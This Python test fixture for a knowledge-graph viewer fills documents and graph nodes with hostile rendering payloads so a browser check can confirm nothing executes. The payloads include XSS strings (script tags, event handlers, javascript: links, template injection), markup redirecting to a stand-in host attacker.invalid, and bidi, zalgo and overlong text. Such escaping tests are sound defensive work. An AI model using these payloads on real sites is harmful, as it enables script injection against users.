"""Documents that attack whoever shows them: markup, addresses that are scripts, odd characters, endless words.

Were one of the scripts run, it would open a dialog, set ``window.attacked`` or ask another site for something,
each of which `chromium.Visitor` takes for a failure.
"""

from __future__ import annotations

from pathlib import Path

from kg.ids import document_id, named_id, section_id, statement_id
from kg.models import (
    AssertedBy,
    Challenges,
    Claim,
    Clarification,
    Counterargument,
    Defines,
    Discrepancy,
    Document,
    Edge,
    Entity,
    Mentions,
    Named,
    PartOf,
    Restates,
    RunnerUp,
    Section,
    Statement,
    Subgraph,
    Term,
)

MARK = "window.attacked=1;alert(1)"
LONG = "w" * 1_000_000
PAYLOADS = (
    f"<script>{MARK}</script>",
    f"</script></style></textarea></title><script>{MARK}</script>",
    f"<img src=x onerror='{MARK}'>",
    f'"><svg onload={MARK}><animate onbegin="{MARK}" attributeName=x dur=1s>',
    f"' autofocus onfocus='{MARK}' tabindex=1 x='",
    f"<a href='javascript:{MARK}'>open</a> [open](javascript:{MARK}) javascript:{MARK}",
    "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe><base href='http://attacker.invalid/'>",
    "<link rel=stylesheet href=http://attacker.invalid/x.css><style>body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid/'><form action=//attacker.invalid>",
    f"{{{{ 7 * 7 }}}} {{% raw %}} ${{{MARK}}} {{{{constructor.constructor('{MARK}')()}}}}",
    f"<div hx-get='http://attacker.invalid/' hx-trigger='load' hx-on:load='{MARK}'>x</div>",
    "\u202etxet dedrawkcab\u202c \u2066isolate\u2069 \u200f\u061c right to left \u05d0\u05d1\u05d2 \u0627\u0644\u0639",
    # the second of these has no glyph in most fonts, so that the cluster gets wide and cannot be broken
    "Z" + "\u0335\u0489\u0334" * 200 + " end",
    "Z" + "\u0335\u0301\u0323" * 200 + " \ufeff\u200b\u00ad\u2028\u2029 𝔸 😀‍👩‍👧 \ufffd end",
    "]]> --> <!-- %00 &lt;b&gt; &#x3c;script&#x3e; \\u003cscript\\u003e \\x3cscript\\x3e",
    "a" * 30_000,
    LONG,
)
_TITLE = PAYLOADS[1] + PAYLOADS[2] + PAYLOADS[11]
_ADDRESS = f"javascript:{MARK}//"


def documents(folder: Path) -> list[Path]:
    """Write pages for ingest that hold the payloads in every part, and return their files."""
    short = [payload for payload in PAYLOADS if len(payload) < 1_000]
    texts = {"attack.txt": _page(short), "attack.md": _page(short, before=f"---\nurl: {_ADDRESS}\n---\n# ")}
    paths = []
    for name, text in texts.items():
        path = folder / name
        path.write_text(text, "utf-8")
        paths.append(path)
    return paths


def _page(payloads: list[str], before: str = "") -> str:
    claims = "\n\n".join(
        f"Labor economist Lindiwe Castellanos argues that {payload} makes every company faster than meetings do."
        for payload in payloads
    )
    terms = "\n".join(
        f'  • "{payload}" refers to a way of working that few teams know.' for payload in payloads
    )
    counters = "\n".join(
        f"  • However, {payload} may not make a company faster, since meetings settle more than it does."
        for payload in payloads
    )
    parts = [
        f"{before}{_TITLE}",
        f"By {PAYLOADS[2]}",
        "1-Page Summary",
        PAYLOADS[0],
        claims,
        "Additional Materials",
        "Clarifications",
        terms,
        "Counterarguments",
        counters,
    ]
    return "\n\n".join(parts) + "\n"


def graph() -> Subgraph:
    """Return a document in which every text that a node or an edge can hold is a payload."""
    document = document_id(_TITLE, PAYLOADS[0])
    section = section_id(document, PAYLOADS[2], 0)
    text = "\n\n".join(PAYLOADS)
    nodes: list[Document | Section | Statement | Named] = [
        Document(
            id=document,
            title=_TITLE,
            format=PAYLOADS[0],
            sha256="0" * 64,
            text=text,
            collection=PAYLOADS[0],
            byline=PAYLOADS[4],
            published=PAYLOADS[3],
            url=_ADDRESS,
            warnings=PAYLOADS,
            discrepancies=(Discrepancy(about=PAYLOADS[0], message=PAYLOADS[2], quotes=PAYLOADS[:3]),),
        ),
        Section(id=section, document=document, heading=PAYLOADS[2], level=1, order=0, role="summary"),
    ]
    edges: list[Edge] = [PartOf(source=section, target=document, order=0)]
    statements: dict[type[Statement], list[str]] = {Claim: [], Counterargument: [], Clarification: []}
    names: dict[type[Named], list[str]] = {Entity: [], Term: []}
    start = 0
    for payload in PAYLOADS:
        span = {"section": section, "document": document, "quote": payload, "start": start}
        for kind, ids in statements.items():
            id_ = statement_id(kind.__name__, document, payload)
            more = {"concession": payload} if kind is Counterargument else {}
            nodes.append(kind(id=id_, text=payload, end=start + len(payload), **span, **more))
            edges.append(PartOf(source=id_, target=section, order=start))
            ids.append(id_)
        for named, ids in names.items():
            id_ = named_id(named.__name__, payload)
            nodes.append(named(id=id_, name=payload, aliases=PAYLOADS[:6]))
            ids.append(id_)
        start += len(payload) + 2
    claims, counters, clarifications = statements.values()
    entities, terms = names.values()
    for number, claim in enumerate(claims):
        edges += [
            # all of them on the first claim, so that one page shows them all
            Challenges(
                source=counters[number],
                target=claims[0],
                score=0.5,
                method=PAYLOADS[0],
                evidence={PAYLOADS[0]: PAYLOADS[2], "cosine": 0.5},
            ),
            Challenges(source=counters[number], target=claim, score=0.75, method="test", evidence={})
            if number
            else Challenges(source=counters[0], target=counters[1], score=0.5, method="test", evidence={}),
            AssertedBy(source=claim, target=entities[number], cue=PAYLOADS[number], attribution="explicit"),
            Mentions(source=claim, target=terms[number], start=0, end=4),
            Mentions(source=claims[0], target=entities[number], start=0, end=4),
            Defines(source=clarifications[number], target=terms[number], score=1.0, method=PAYLOADS[0]),
        ]
    edges.append(Restates(source=claims[0], target=claims[1], score=0.9, method=PAYLOADS[0]))
    second = next(node for node in nodes if node.id == counters[2])
    nodes[nodes.index(second)] = second.model_copy(
        update={"runners_up": (RunnerUp(claim=claims[0], score=0.25),)}
    )
    return Subgraph.of(nodes, edges)
